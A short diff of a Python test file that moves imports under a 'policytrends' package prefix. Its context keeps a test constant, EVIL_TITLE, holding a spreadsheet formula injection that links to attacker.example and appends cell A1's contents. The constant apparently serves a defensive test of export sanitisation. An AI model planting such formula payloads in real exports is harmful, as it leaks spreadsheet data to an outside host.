@@ -19,12 +19,12 @@ import numpy as np
 import pandas as pd
 import pytest
 import sqlalchemy as sa
+from policytrends.corpus.segment import text_hash
+from policytrends.corpus.store import CorpusStore, Document, documents
+from policytrends.trends.build import TABLES, build_outputs
 
-from corpus.segment import text_hash
-from corpus.store import CorpusStore, Document, documents
 from policytrends import settings as S
 from policytrends.errors import PolicyTrendsError
-from trends.build import TABLES, build_outputs
 
 PROJECT = Path(__file__).resolve().parent.parent
 EVIL_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full report")'
